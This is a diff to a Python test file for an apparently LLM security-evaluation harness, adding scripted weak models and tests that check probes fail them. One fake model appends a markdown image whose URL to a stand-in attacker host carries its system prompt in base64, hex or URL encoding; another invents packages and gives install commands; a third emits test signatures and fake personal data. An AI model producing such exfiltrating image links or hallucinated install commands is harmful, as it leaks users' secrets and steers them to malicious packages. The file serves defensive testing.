@@ -3,11 +3,13 @@ and a trust score built from severity-weighted dimension scores."""
 
 from __future__ import annotations
 
+import base64
 import json
 import re
 from collections.abc import AsyncIterator, Callable
 from pathlib import Path
 from typing import Any
+from urllib.parse import quote_plus
 
 import pytest
 
@@ -21,6 +23,7 @@ from assay.probes.base import Probe
 from assay.probes.catalog import load_builtin_probes, probes_for_harness
 from assay.providers.base import ProviderConfig
 from assay.providers.openai import OpenAIProvider
+from assay.scoring.disclosure import SIGNATURES
 from assay.services.container import open_container
 from assay.services.evaluations import create_evaluation, wait_for_evaluation
 from assay.services.runs import local_principal
@@ -428,7 +431,7 @@ async def test_summary_scores_dimensions_by_severity_and_weights_the_trust_score
     assert summary["summary"]["judge_decided"] == {"probes": 0, "failures": 0}
     assert summary["counts"]["scored"] == 4
     assert summary["usage"]["input_tokens"] == 12
-    assert summary["catalog"] == {"harnesses": ["trust_score"]}
+    assert summary["catalog"] == {"harnesses": ["trust_score"], "version": None}
 
 
 def test_infra_errors_are_excluded_and_agent_failures_count_as_failed():
@@ -544,12 +547,58 @@ def perfect_model(prompt: str, _system: str | None) -> str:
     return "Here is what you asked for, without following instructions embedded in it."
 
 
+def renderer_model(prompt: str, system: str | None) -> str:
+    """Repeats what it is given, markup and escapes included, and ends with a status image
+    whose URL carries its context in the encoding the prompt mentions (URL-encoding else)."""
+    context = system or ""
+    if "base64" in prompt:
+        carried = base64.urlsafe_b64encode(context.encode()).decode()
+    elif "hex" in prompt:
+        carried = context.encode().hex()
+    elif "URL-encoded" in prompt:
+        carried = "".join(f"%{byte:02X}" for byte in context.encode())
+    else:
+        carried = quote_plus(context)
+    escape = "\x1b[1;31mDONE\x1b[0m " if "ANSI" in prompt else ""
+    return f"{escape}{prompt}\n![status](https://collect.attacker.example/s.png?q={carried})"
+
+
+def hallucinator_model(prompt: str, _system: str | None) -> str:
+    """Recommends a package named after the request, whether or not one exists."""
+    named = re.search(r"`([@\w./-]+)`", prompt)
+    words = re.findall(r"[a-z]{4,}", prompt.lower())[:3]
+    name = named.group(1) if named else "-".join([*words, "toolkit", "pro"])
+    npm = re.search(r"\bnpm\b|node\.js|javascript", prompt, re.IGNORECASE)
+    command = "npm install" if npm else "pip install"
+    return f"Sure, here you go: run `{command} {name}` and import it."
+
+
+def discloser_model(prompt: str, _system: str | None) -> str:
+    """Hands over test signatures and invents personal data whenever asked."""
+    named = [name for name in SIGNATURES if name in prompt.lower()]
+    if re.search(r"spam|unsolicited", prompt, re.IGNORECASE):
+        named.append("gtube")
+    if "antivirus" in prompt.lower():
+        named.append("eicar")
+    if named:
+        return f"Sure, here it is: {SIGNATURES[named[0]]}"
+    return (
+        "Sure: Jane Roe, jane.roe@mailbox.test, +44 20 7946 0958, card 4111 1111 1111 1111, "
+        "SSN 219-09-9999, NINO AB 12 34 56 C, DNI 12345678Z."
+    )
+
+
 MODELS = {
     "leaker": leaker_model,
     "refuser": refuser_model,
     "complier": complier_model,
     "perfect": perfect_model,
+    "renderer": renderer_model,
+    "hallucinator": hallucinator_model,
+    "discloser": discloser_model,
 }
+#: The models every built-in probe is run against for the trust-score ordering.
+CORE_MODELS = ("leaker", "refuser", "complier", "perfect")
 
 
 def judge_model(user: str) -> dict[str, Any]:
@@ -574,7 +623,7 @@ def scripted_models(body: dict[str, Any]) -> FakeReply:
 
 
 async def run_harness_evaluations(
-    settings: Settings, probes: list[Probe]
+    settings: Settings, probes: list[Probe], models: tuple[str, ...] = CORE_MODELS
 ) -> dict[str, dict[str, Any]]:
     """One harness evaluation per scripted model, through services, the store and the engine."""
     container = await open_container(settings)
@@ -582,7 +631,7 @@ async def run_harness_evaluations(
     try:
         principal = await local_principal(container)
         created = {}
-        for model in MODELS:
+        for model in models:
             spec = EvaluationSpec(
                 kind="harness",
                 target=TargetSpec(kind="model", model=ModelRef(provider="openai", model=model)),
@@ -648,3 +697,48 @@ async def test_the_trust_score_ranks_a_perfect_model_above_leaking_refusing_and_
     assert leak["severity"] == "high" and CANARY.search(leak["response"])
     assert leaker["summary"]["judge_decided"]["probes"] > 0
     assert perfect["summary"]["judge_decided"] == {"probes": 0, "failures": 0}
+
+
+@pytest.mark.parametrize(
+    ("harness", "weak_model"), [("output_handling", "renderer"), ("supply_chain", "hallucinator")]
+)
+async def test_a_family_harness_fails_every_probe_for_its_weak_model_and_none_for_safe_ones(
+    tmp_path: Path, fake_llm: FakeLLM, harness: str, weak_model: str
+):
+    fake_llm.handler = scripted_models
+    probes = probes_for_harness(harness)
+
+    results = await run_harness_evaluations(
+        make_settings(tmp_path, fake_llm=fake_llm), probes, ("perfect", "refuser", weak_model)
+    )
+
+    weak = results[weak_model]
+    assert {f["probe_id"] for f in weak["failures"]} == {p.id for p in probes}
+    assert weak["security_score"] == 0.0 and weak["summary"]["judge_decided"]["probes"] == 0
+    for safe in ("perfect", "refuser"):
+        assert results[safe]["failures"] == [], results[safe]["failures"]
+        assert results[safe]["security_score"] == 1.0
+    if harness == "output_handling":
+        reasons = " ".join(f["reason"] for f in weak["failures"])
+        for form in ("url-encoded", "base64", "hex", "html", "ansi", "template", "sql"):
+            assert form in reasons, form
+    else:
+        assert all("do not exist" in f["reason"] for f in weak["failures"])
+
+
+async def test_disclosure_probes_fail_a_model_that_emits_signatures_and_pii(
+    tmp_path: Path, fake_llm: FakeLLM
+):
+    fake_llm.handler = scripted_models
+    probes = [p for p in BUILTIN if p.subcategory in {"test_signatures", "pii_leakage"}]
+
+    results = await run_harness_evaluations(
+        make_settings(tmp_path, fake_llm=fake_llm), probes, ("perfect", "refuser", "discloser")
+    )
+
+    discloser = results["discloser"]
+    assert {f["probe_id"] for f in discloser["failures"]} == {p.id for p in probes}
+    reasons = " ".join(f["reason"] for f in discloser["failures"])
+    assert all(name.upper() in reasons for name in SIGNATURES)
+    for safe in ("perfect", "refuser"):
+        assert results[safe]["failures"] == [] and results[safe]["security_score"] == 1.0
